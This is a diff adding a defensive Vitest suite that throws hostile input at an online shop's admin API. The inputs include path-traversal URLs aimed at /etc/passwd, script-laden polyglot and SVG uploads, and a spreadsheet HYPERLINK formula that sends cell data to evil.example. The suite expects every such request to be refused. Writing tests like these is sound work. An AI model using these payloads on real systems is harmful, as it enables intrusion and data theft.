@@ -1,0 +1,312 @@
+import { mkdtemp, rm } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { count } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { LightMyRequestResponse } from 'fastify';
+import { auditLog, productImages } from '../src/db/schema';
+import { diskObjectStore } from '../src/media/object-store/disk-object-store';
+import { makeProduct, plainProperty, sizeProperty } from './support/factories';
+import { makeImage, multipartForm, staffRequest, uploadPhoto } from './support/photos';
+import { makeStaff, signedIn, type StaffBrowser } from './support/staff';
+import { createTestApp, type TestApp } from './support/test-app';
+
+/**
+ * An attacker's and a sceptic's tour of the second part of the back office (catalogue, photos, coupons, reviews,
+ * experiments, dashboard): hostile bodies, odd bytes, forged counts and paths. Every answer is a clear 4xx in the
+ * API's envelope, never a 5xx, and nothing changes (no audit row, no photo row).
+ */
+const SECRET = 'operator-secret-for-attacks-0123456789';
+const sofa = makeProduct({
+  id: 'sofa',
+  title: '=HYPERLINK("http://evil.example/?x="&A1,"Sofa")',
+  properties: [sizeProperty([{ value: 'queen', code: 'QN', priceDiff: 0 }]), plainProperty('Color', ['navy', '+grey'])],
+});
+const plumeBed = makeProduct({ id: 'plume-bed' });
+
+let t: TestApp;
+let root: string;
+let owner: StaffBrowser;
+
+beforeAll(async () => {
+  root = await mkdtemp(path.join(os.tmpdir(), 'attacks-'));
+  t = await createTestApp({
+    seed: { nestwood: [sofa], plume: [plumeBed] },
+    objectStore: diskObjectStore(root),
+    operatorSecret: SECRET,
+  });
+  owner = await signedIn(t.app, await makeStaff(t.db, { role: 'owner' }));
+});
+afterAll(async () => {
+  await t.close();
+  await rm(root, { recursive: true, force: true });
+});
+
+const audits = async () => (await t.db.select({ n: count() }).from(auditLog))[0]!.n;
+const photos = async () => (await t.db.select({ n: count() }).from(productImages))[0]!.n;
+
+/** A clear refusal: a 4xx in the API's envelope with a message. */
+function expectRefusal(res: LightMyRequestResponse, label: string) {
+  expect(res.statusCode, `${label}: ${res.statusCode} ${res.body.slice(0, 300)}`).toBeGreaterThanOrEqual(400);
+  expect(res.statusCode, `${label}: ${res.body.slice(0, 300)}`).toBeLessThan(500);
+  const body = res.json() as { status?: string; code?: string; message?: string };
+  expect(body.status, label).toBe('error');
+  expect(typeof body.code, label).toBe('string');
+  expect(body.message, label).toBeTruthy();
+}
+
+const raw = (browser: StaffBrowser, method: 'POST' | 'PUT' | 'PATCH' | 'DELETE', url: string, payload: string) =>
+  staffRequest(t.app, browser, { method, url, payload, headers: { 'content-type': 'application/json' } });
+
+/** Every write of the area, with a target that exists where one is needed. */
+const WRITES: Array<['POST' | 'PUT' | 'PATCH' | 'DELETE', string]> = [
+  ['PUT', '/admin/catalog/products/nestwood/sofa'],
+  ['POST', '/admin/catalog/products/nestwood'],
+  ['PATCH', '/admin/catalog/variants'],
+  ['POST', '/admin/catalog/variants/csv'],
+  ['POST', '/admin/catalog/file/dry-run'],
+  ['POST', '/admin/catalog/file/apply'],
+  ['PATCH', '/admin/catalog/products/nestwood/sofa/photos/ph_00000000000000000000'],
+  ['PUT', '/admin/catalog/products/nestwood/sofa/photos/order'],
+  ['POST', '/admin/coupons'],
+  ['PUT', '/admin/coupons/nestwood/SAVE10'],
+  ['POST', '/admin/coupons/nestwood/SAVE10/pause'],
+  ['POST', '/admin/reviews/rv_1/approve'],
+  ['POST', '/admin/reviews/rv_1/reject'],
+  ['PUT', '/admin/reviews/rv_1/reply'],
+  ['PUT', '/admin/experiments/nestwood/premier-bundle'],
+];
+
+const nested = (depth: number) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
+const HOSTILE_BODIES: Array<[string, string]> = [
+  ['not JSON', '{"version": 1,'],
+  ['a JSON array', '[1,2,3]'],
+  ['null', 'null'],
+  ['a string', '"hello"'],
+  ['deeply nested JSON', nested(5000)],
+  ['1e309 everywhere', '{"version":1e309,"brand":"nestwood","price":1e309,"coupon":{"value":1e309}}'],
+  ['-0 and 0.1+0.2', '{"version":-0,"brand":"nestwood","changes":[{"sku":"SOFA-QN","price":0.30000000000000004}]}'],
+  ['NUL bytes', '{"brand":"nestwood\\u0000","version":1,"reason":"\\u0000","body":"a\\u0000b"}'],
+  ['lone surrogates', '{"brand":"nestwood","version":1,"reason":"\\ud800","body":"\\udfff"}'],
+  ['extra fields setting totals', '{"version":1,"status":"published","redemptions":0,"createdBy":"x","total":0,"price":1}'],
+  ['a huge array', JSON.stringify({ brand: 'nestwood', changes: Array.from({ length: 60_000 }, () => 1), order: [] })],
+];
+
+describe('every write: hostile bodies are a clear 4xx and change nothing', () => {
+  it.each(WRITES)('%s %s', async (method, url) => {
+    const before = await audits();
+    for (const [label, payload] of HOSTILE_BODIES) expectRefusal(await raw(owner, method, url, payload), `${label}`);
+    const mega = JSON.stringify({ version: 1, brand: 'nestwood', reason: 'x'.repeat(3 * 1024 * 1024) });
+    expectRefusal(await raw(owner, method, url, mega), '3 MB string');
+    expect(await audits()).toBe(before);
+  });
+});
+
+describe('a disabled member’s old session', () => {
+  it('is refused on every write; nothing changes', async () => {
+    const member = await makeStaff(t.db, { role: 'manager' });
+    const browser = await signedIn(t.app, member);
+    const disable = await owner.call('POST', `/admin/staff/${member.id}/disable`);
+    expect(disable.statusCode, disable.body).toBe(200);
+    const before = await audits();
+    for (const [method, url] of WRITES) {
+      const res = await raw(browser, method, url, '{"version":1}');
+      expect(res.statusCode, `${method} ${url}`).toBe(401);
+    }
+    expect(await audits()).toBe(before);
+  });
+});
+
+describe('photo uploads: odd files and forms', () => {
+  const target = { brand: 'nestwood', productId: 'sofa' };
+  const upload = async (label: string, file: { body: Buffer; filename: string; type: string }) => {
+    const res = await uploadPhoto(t.app, owner, target, { alt: 'Sofa', file });
+    expectRefusal(res, label);
+    return res;
+  };
+
+  it('a polyglot, an SVG or a GIF named .png, a truncated JPEG, random bytes: refused, nothing kept', async () => {
+    const before = [await photos(), await audits()];
+    const jpeg = await makeImage('jpeg', { width: 400, height: 300 });
+    const html = Buffer.from('<html><script>alert(document.cookie)</script></html>');
+    await upload('polyglot (JPEG head + HTML)', {
+      body: Buffer.concat([jpeg.subarray(0, 200), html]),
+      filename: 'x.jpg',
+      type: 'image/jpeg',
+    });
+    await upload('svg renamed png', {
+      body: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><script>alert(1)</script></svg>'),
+      filename: 'x.png',
+      type: 'image/png',
+    });
+    await upload('gif renamed png', {
+      body: await makeImage('gif', { width: 400, height: 300 }),
+      filename: 'x.png',
+      type: 'image/png',
+    });
+    await upload('truncated jpeg', {
+      body: jpeg.subarray(0, Math.floor(jpeg.length / 3)),
+      filename: 'x.jpg',
+      type: 'image/jpeg',
+    });
+    await upload('html named jpg', { body: html, filename: 'x.jpg', type: 'image/jpeg' });
+    await upload('a long name', { body: html, filename: `${'a'.repeat(5000)}.jpg`, type: 'image/jpeg' });
+    expect([await photos(), await audits()]).toEqual(before);
+  });
+
+  it('a JPEG followed by HTML is cleaned: what is stored is the re-encoded image only', async () => {
+    const jpeg = await makeImage('jpeg', { width: 400, height: 300 });
+    const html = '<html><script>alert(document.cookie)</script></html>';
+    const res = await uploadPhoto(t.app, owner, target, {
+      alt: 'Sofa polyglot',
+      file: { body: Buffer.concat([jpeg, Buffer.from(html)]), filename: 'x.jpg', type: 'image/jpeg' },
+    });
+    if (res.statusCode === 200) {
+      const url = (res.json().result as { variants?: Array<{ url: string }>; url?: string }).url;
+      const served = url ? await t.app.inject({ method: 'GET', url }) : null;
+      if (served && served.statusCode === 200) expect(served.rawPayload.includes(Buffer.from('<script>'))).toBe(false);
+    } else expectRefusal(res, 'polyglot with full jpeg');
+  });
+
+  it('two files, too many fields, a wrong Content-Type, a broken multipart body: refused', async () => {
+    const before = [await photos(), await audits()];
+    const jpeg = await makeImage('jpeg', { width: 400, height: 300 });
+    const url = '/admin/catalog/products/nestwood/sofa/photos';
+    const boundary = 'xyzBOUNDARY';
+    const filePart = (name: string) =>
+      Buffer.concat([
+        Buffer.from(
+          `--${boundary}\r\ncontent-disposition: form-data; name="${name}"; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n`,
+        ),
+        jpeg,
+        Buffer.from('\r\n'),
+      ]);
+    const field = (name: string, value: string) =>
+      Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`);
+    const send = (payload: Buffer, contentType = `multipart/form-data; boundary=${boundary}`) =>
+      staffRequest(t.app, owner, { method: 'POST', url, payload, headers: { 'content-type': contentType } });
+    const end = Buffer.from(`--${boundary}--\r\n`);
+    expectRefusal(await send(Buffer.concat([field('alt', 'Two'), filePart('file'), filePart('file'), end])), 'two files');
+    expectRefusal(await send(Buffer.concat([field('alt', 'Other'), filePart('other'), end])), 'a file under another name');
+    expectRefusal(
+      await send(Buffer.concat([...Array.from({ length: 10 }, (_, i) => field(`f${i}`, 'x')), filePart('file'), end])),
+      'too many fields',
+    );
+    expectRefusal(await send(Buffer.concat([field('alt', 'x'.repeat(10_000)), filePart('file'), end])), 'a long field');
+    expectRefusal(await send(Buffer.concat([field('alt', 'Broken'), filePart('file')])), 'no closing boundary');
+    expectRefusal(await send(Buffer.concat([field('alt', 'x'), filePart('file'), end]), 'multipart/form-data'), 'no boundary');
+    expectRefusal(await send(jpeg, 'image/jpeg'), 'a bare JPEG body');
+    expectRefusal(await send(Buffer.from('alt=x'), 'application/x-www-form-urlencoded'), 'a urlencoded form');
+    const { payload, contentType } = multipartForm(
+      { alt: 'Plain' },
+      { body: jpeg, filename: '../../../etc/passwd', type: 'text/html' },
+    );
+    const named = await send(payload, contentType);
+    // The file's claimed name and type do not matter: the bytes decide, and the stored key is the cleaned hash.
+    if (named.statusCode !== 200) expectRefusal(named, 'a traversal file name');
+    else expect(JSON.stringify(named.json())).not.toContain('passwd');
+    const after = [await photos(), await audits()];
+    expect(after[0]! - before[0]!).toBe(named.statusCode === 200 ? 1 : 0);
+  });
+});
+
+describe('GET /media/photos/...: traversal and odd bytes', () => {
+  it.each([
+    '/media/photos/../../etc/passwd',
+    '/media/photos/nestwood/..%2f..%2f/etc/passwd',
+    '/media/photos/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
+    '/media/photos/nestwood/ph_00000000000000000000/..%2F..%2F..%2Fetc/passwd',
+    '/media/photos/nestwood/ph_00000000000000000000/0000000000000000/400.jpg',
+    '/media/photos/nestwood/ph_00000000000000000000/0000000000000000/401.jpg',
+    '/media/photos/nestwood/ph_00000000000000000000/0000000000000000/400.gif',
+    '/media/photos/nestwood/ph_00000000000000000000/0000000000000000/original',
+    `/media/photos/nestwood/ph_${'a'.repeat(5000)}/0/400.jpg`,
+    '/media/photos/nestwood/ph_%00/%00/400.jpg',
+    '/media/photos/nestwood/ph_%ff%fe/x/400.jpg',
+    '/media/photos/nest%0awood/ph_1/x/400.jpg',
+    '/media/photos/%C0%AE%C0%AE/x/y/400.jpg',
+  ])('%s is a 4xx in the envelope', async (url) => {
+    const res = await t.app.inject({ method: 'GET', url });
+    expect(res.statusCode, res.body).toBeGreaterThanOrEqual(400);
+    expect(res.statusCode, res.body).toBeLessThan(500);
+    expect(res.body).not.toContain('root:');
+  });
+});
+
+describe('the price sheet CSV', () => {
+  it('exports no cell a spreadsheet would run as a formula', async () => {
+    const res = await owner.call('GET', '/admin/catalog/variants/csv?brand=nestwood');
+    expect(res.statusCode).toBe(200);
+    const cells = res.body
+      .split(/\r?\n/)
+      .slice(1)
+      .filter(Boolean)
+      .flatMap((line) => line.split(','))
+      .map((cell) => cell.replace(/^"/, ''));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+
+  it('a downloaded sheet uploaded again changes nothing (escaped cells are read-only columns)', async () => {
+    const sheet = (await owner.call('GET', '/admin/catalog/variants/csv?brand=nestwood')).body;
+    const res = await owner.call('POST', '/admin/catalog/variants/csv', { brand: 'nestwood', csv: sheet });
+    expect(res.statusCode, res.body).toBe(200);
+    expect(res.json().result).toMatchObject({ changes: [], errors: [] });
+  });
+
+  it('a BOM, CRLF, quotes and formulas in an upload are read as text; 10,001 lines are refused clearly', async () => {
+    const sheet = (await owner.call('GET', '/admin/catalog/variants/csv?brand=nestwood')).body;
+    const [header, ...lines] = sheet.split('\n').filter(Boolean);
+    const crlf = `\uFEFF${[header, ...lines].join('\r\n')}\r\n`;
+    const res = await owner.call('POST', '/admin/catalog/variants/csv', { brand: 'nestwood', csv: crlf });
+    expect(res.statusCode, res.body).toBe(200);
+    expect(res.json().result).toMatchObject({ changes: [], errors: [] });
+    const formula = `sku,price_dollars\n${lines[0]!.split(',')[0]},"=1+1"\n`;
+    const f = await owner.call('POST', '/admin/catalog/variants/csv', { brand: 'nestwood', csv: formula });
+    expect(f.statusCode).toBe(200);
+    expect(f.json().result.changes).toEqual([]);
+    expect(f.json().result.errors.length).toBe(1);
+    const many = `sku,price_dollars\n${Array.from({ length: 10_001 }, (_, i) => `SKU${i},1.00`).join('\n')}\n`;
+    const big = await owner.call('POST', '/admin/catalog/variants/csv', { brand: 'nestwood', csv: many });
+    if (big.statusCode === 200) expect(big.json().result.errors.length).toBeGreaterThan(0);
+    else expectRefusal(big, '10,001 lines');
+    const quotes = `sku,price_dollars\n"${'"'.repeat(1000)}\n`;
+    const q = await owner.call('POST', '/admin/catalog/variants/csv', { brand: 'nestwood', csv: quotes });
+    expect(q.statusCode, q.body).toBe(200);
+    expect(q.json().result.errors.length).toBeGreaterThan(0);
+  });
+});
+
+describe('the storefronts’ internal counts: forged and inflated', () => {
+  const post = (url: string, payload: unknown, secret?: string) =>
+    t.app.inject({
+      method: 'POST',
+      url,
+      headers: secret === undefined ? {} : { 'x-operator-secret': secret },
+      payload: payload as object,
+    });
+
+  it.each(['/dashboard/funnel-counts', '/experiments/exposures'])('%s: no secret, a wrong one, hostile batches', async (url) => {
+    const good = { counts: [{ brand: 'nestwood', day: '2026-11-29', step: 'view_item', count: 1 }] };
+    for (const secret of [undefined, '', 'x', SECRET.slice(0, -1), `${SECRET} `, SECRET.toUpperCase()])
+      expectRefusal(await post(url, good, secret), `secret ${JSON.stringify(secret)}`);
+    const entry =
+      url === '/experiments/exposures'
+        ? { brand: 'nestwood', experiment: 'premier-bundle', variant: 'serenity', count: 1 }
+        : { brand: 'nestwood', day: '2026-11-29', step: 'view_item', count: 1 };
+    const key = url === '/experiments/exposures' ? 'exposures' : 'counts';
+    for (const [label, body] of [
+      ['negative count', { [key]: [{ ...entry, count: -5 }] }],
+      ['1e309 count', JSON.parse(`{"${key}":[${JSON.stringify(entry).replace('"count":1', '"count":1e309')}]}`)],
+      ['fraction', { [key]: [{ ...entry, count: 0.5 }] }],
+      ['over a million', { [key]: [{ ...entry, count: 1_000_001 }] }],
+      ['huge batch', { [key]: Array.from({ length: 5000 }, () => entry) }],
+      ['extra field', { [key]: [{ ...entry, total: 1 }] }],
+      ['forged brand with odd bytes', { [key]: [{ ...entry, brand: 'nest\u0000wood' }] }],
+      ['not an array', { [key]: entry }],
+    ] as const)
+      expectRefusal(await post(url, body, SECRET), label);
+    const forged = await post(url, { [key]: [{ ...entry, brand: 'evil-brand' }] }, SECRET);
+    expect(forged.statusCode).toBe(200);
+    expect(forged.json().result.counted).toBe(0);
+  });
+});
